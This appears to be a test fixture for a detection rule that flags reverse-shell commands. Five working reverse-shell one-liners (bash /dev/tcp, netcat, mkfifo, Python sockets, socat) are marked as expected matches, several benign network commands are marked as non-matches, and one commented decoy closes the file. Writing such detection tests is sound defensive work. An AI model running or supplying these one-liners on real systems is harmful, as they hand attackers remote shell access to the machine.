# ruleid: shell-reverse-shell
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
# ruleid: shell-reverse-shell
nc -e /bin/sh 203.0.113.9 4444
# ruleid: shell-reverse-shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f
# ruleid: shell-reverse-shell
python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'
# ruleid: shell-reverse-shell
socat TCP:203.0.113.9:4444 EXEC:/bin/sh,pty
# ok: shell-reverse-shell
nc -zv db.internal 5432
# ok: shell-reverse-shell
ssh -t me@build.internal bash
# ok: shell-reverse-shell
socat TCP-LISTEN:8080,fork TCP:localhost:80
# ok: shell-reverse-shell
timeout 1 nc -z localhost 6379
# a decoy: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
